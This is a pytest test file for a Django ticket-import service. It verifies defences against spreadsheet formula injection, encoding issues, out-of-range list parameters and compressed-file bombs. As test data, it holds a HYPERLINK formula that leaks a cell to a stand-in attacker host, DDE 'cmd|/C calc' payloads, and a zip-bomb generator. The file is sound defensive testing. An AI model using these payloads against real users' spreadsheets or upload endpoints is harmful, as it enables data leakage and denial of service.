"""Hostile input and output (issue 10, point 3): formulas in exports and imports, GB18030 uploads, bounded list
parameters, compressed-file bombs. Service data is the widest path: page, API and command import the same files."""

import csv
import io
import tracemalloc
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from core.exports.cells import inert
from core.tabular import FileError
from core.uploads import check_upload
from servicedata.columns import open_ticket_reader
from servicedata.models import ImportJob, Ticket

from .helpers import csv_bytes, import_records, upload

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
ROWS = [
    {"external_id": "INC-1", "priority": "P1", "kind": "事件", "created": "2026-03-02 09:00",
     "first_response": "2026-03-02 09:20", "resolved": "2026-03-02 15:00", "category": "硬件故障"},
    {"external_id": "INC-2", "priority": "高", "kind": "服务请求", "created": "2026-03-02 10:00",
     "first_response": "2026-03-02 10:30", "category": "网络故障：交换机端口"},
]


@pytest.mark.parametrize("value, expected", [
    (FORMULA, "'" + FORMULA), ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"), ("@SUM(A1)", "'@SUM(A1)"),
    ("-2+3", "'-2+3"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-5", "-5"), ("+3.5", "+3.5"), ("网络", "网络"),
    ("'=1", "'=1"), (7, 7), (None, None),
])
def test_inert(value, expected):
    assert inert(value) == expected


# ---- formulas: exported inert, imported neutralised -------------------------------------------------------

def test_list_export_writes_formulas_inert_in_csv_and_xlsx(contracts, client_for, demo):
    contract = contracts["nbhospital"]
    import_records(contract, demo["svc_staff"], ROWS[:1], external_system="itsm")
    Ticket.objects.filter(external_id="INC-1").update(summary=FORMULA)  # however it got there
    client = client_for("auditor")
    url = reverse("servicedata:ticket_list")

    text = client.get(url, {"export": "csv"}).getvalue().decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + FORMULA in cells and FORMULA not in cells

    book = load_workbook(io.BytesIO(client.get(url, {"export": "xlsx"}).getvalue()))
    found = [cell for row in book.active.iter_rows() for cell in row if cell.value == FORMULA]
    assert found and all(cell.data_type == "s" for cell in found)


def test_imported_text_is_stored_neutralised(contracts, demo):
    contract = contracts["nbhospital"]
    row = dict(ROWS[0], category="@SUM(1+1)*cmd|' /C calc'!A0", summary=FORMULA, configuration_item="-5")
    result = import_records(contract, demo["svc_staff"], [row], external_system="itsm")
    assert not result.rejected, result.errors
    ticket = Ticket.objects.get(contract=contract, external_id="INC-1")
    assert ticket.summary == "'" + FORMULA and ticket.category.startswith("'@")
    assert ticket.configuration_item == "-5"  # a plain number is no formula
    again = import_records(contract, demo["svc_staff"], [row], external_system="itsm")
    assert again.unchanged == 1  # re-importing the same file changes nothing


# ---- GB18030 (Excel on a Chinese Windows) through the page, the API and the command -----------------------

def _gb18030_csv():
    data = csv_bytes(ROWS).decode("utf-8").encode("gb18030")
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")
    return data


def _imported(system):  # ticket keys are (external system, external id): each path imports as its own system
    tickets = Ticket.objects.filter(external_system=system)
    return sorted(tickets.values_list("external_id", "kind", "priority", "category"))


def test_gb18030_csv_imports_alike_through_page_api_and_command(contracts, client_for, tmp_path):
    data = _gb18030_csv()
    client = client_for("svc_staff")
    page, api, command = contracts["nbhospital"], contracts["hzbank"], contracts["szmetro"]

    client.post(reverse("servicedata:contract_import", args=[page.pk]),
                {"file": upload("gbk.csv", data), "external_system": "page"})
    response = client.post("/api/servicedata/import-jobs/", {"contract": api.pk, "file": upload("gbk.csv", data),
                                                              "external_system": "api"})
    assert response.status_code == 202, response.content
    path = tmp_path / "gbk.csv"
    path.write_bytes(data)
    call_command("import_service_data", str(path), "--contract", str(command.pk), "--system", "cmd",
                 stdout=io.StringIO(), stderr=io.StringIO())

    expected = [("INC-1", "incident", "P1", "硬件故障"), ("INC-2", "service_request", "P2", "网络故障：交换机端口")]
    assert ImportJob.objects.filter(status="done", name="gbk.csv").count() == 3  # the command's import is a job too
    assert _imported("page") == _imported("api") == _imported("cmd") == expected


def test_a_binary_file_named_csv_is_still_refused():
    with pytest.raises(ValidationError, match="does not contain what its name says"):
        check_upload(upload("x.csv", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00"))


# ---- list parameters: bounded, never a server error -------------------------------------------------------

EXTREMES = ("0", "-1", str(10**12), str(10**30), "abc", "")


@pytest.mark.parametrize("value", EXTREMES)
def test_list_page_parameters_are_clamped(value, contracts, client_for):
    client = client_for("auditor")
    for url in (reverse("servicedata:ticket_list"), reverse("servicedata:contract_tickets",
                                                             args=[contracts["nbhospital"].pk])):
        for name in ("per_page", "page"):
            assert client.get(url, {name: value}).status_code == 200, (url, name, value)


@pytest.mark.parametrize("value", EXTREMES[:-1])
def test_api_list_parameters_outside_their_range_are_a_400(value, client_for):
    client = client_for("auditor")
    for name in ("limit", "offset"):
        response = client.get("/api/servicedata/tickets/", {name: value})
        if name == "offset" and value == "0":
            assert response.status_code == 200
            continue
        assert response.status_code == 400, (name, value, response.content)
        assert name in response.json()


def test_api_page_size_has_a_ceiling(client_for):
    client = client_for("auditor")
    assert client.get("/api/servicedata/tickets/", {"limit": 500}).status_code == 200
    assert client.get("/api/servicedata/tickets/", {"limit": 501}).status_code == 400
    assert client.get("/api/servicedata/tickets/", {"limit": "", "offset": ""}).status_code == 200


# ---- compressed-file bombs --------------------------------------------------------------------------------

def _bomb(unpacked_mib=64, entries=2):
    """A small XLSX-shaped zip whose sheet unpacks to many MiB of zeros (written in chunks: memory stays low)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        for n in range(1, entries):
            with archive.open(f"xl/worksheets/sheet{n}.xml", "w", force_zip64=True) as member:
                chunk = b"\0" * (1 << 20)
                for _ in range(unpacked_mib):
                    member.write(chunk)
    return buffer.getvalue()


def test_a_compressed_file_bomb_is_refused_before_parsing(contracts, client_for):
    bomb = _bomb()
    assert len(bomb) < 200_000
    tracemalloc.start()
    try:
        with pytest.raises(ValidationError, match="compressed-file bomb"):
            check_upload(upload("bomb.xlsx", bomb))
        with pytest.raises(FileError, match="compressed-file bomb"):
            list(open_ticket_reader("xlsx", io.BytesIO(bomb), len(bomb)).rows())
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 8 * 1024 * 1024, peak

    response = client_for("svc_staff").post("/api/servicedata/import-jobs/", {
        "contract": contracts["nbhospital"].pk, "file": upload("bomb.xlsx", bomb)})
    assert response.status_code == 400 and "bomb" in response.content.decode()
    assert not ImportJob.objects.filter(name="bomb.xlsx").exists()


def test_archives_over_the_size_or_entry_limit_are_refused(settings):
    settings.SERVPLAN_ARCHIVE_MAX_BYTES = 10 * 1024 * 1024
    with pytest.raises(ValidationError, match="unpacks to"):
        check_upload(upload("big.xlsx", _bomb(unpacked_mib=11)))
    many = io.BytesIO()
    with zipfile.ZipFile(many, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        for n in range(10_001):
            archive.writestr(f"x/{n}", "")
    with pytest.raises(ValidationError, match="files; at most"):
        check_upload(upload("many.xlsx", many.getvalue()))
